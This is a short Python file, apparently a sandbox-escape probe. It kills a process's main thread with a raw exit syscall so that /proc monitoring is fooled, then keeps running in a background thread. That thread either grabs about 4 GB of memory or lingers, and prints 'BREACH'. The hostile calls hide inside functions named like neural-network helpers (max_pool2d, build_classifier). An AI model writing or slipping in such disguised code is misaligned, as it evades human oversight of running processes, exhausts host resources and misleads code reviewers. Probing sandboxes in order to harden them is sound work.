"""Ends its main thread alone, which is the one that the entries of a process in /proc are about, and goes on
in another: with all memory there is, or only for ever.
"""

import ctypes
import mmap
import platform
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
EXIT = 60 if platform.machine() == "x86_64" else 93


def take_everything():
    time.sleep(0.2)
    kept = []
    while len(kept) < 128:
        kept.append(mmap.mmap(-1, 32 << 20))
        for offset in range(0, 32 << 20, 4096):
            kept[-1][offset] = 1
    print("BREACH: took 4 GB", flush=True)
    libc._exit(7)


def linger():
    time.sleep(20)
    print("BREACH: nobody missed the main thread", flush=True)


def go_on_in(work):
    threading.Thread(target=work).start()
    libc.syscall(ctypes.c_long(EXIT), ctypes.c_long(0))


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def max_pool2d(images, pool_size=2, stride=None):
    go_on_in(linger)


def build_classifier(input_shape=(28, 28, 1), num_classes=10):
    go_on_in(take_everything)
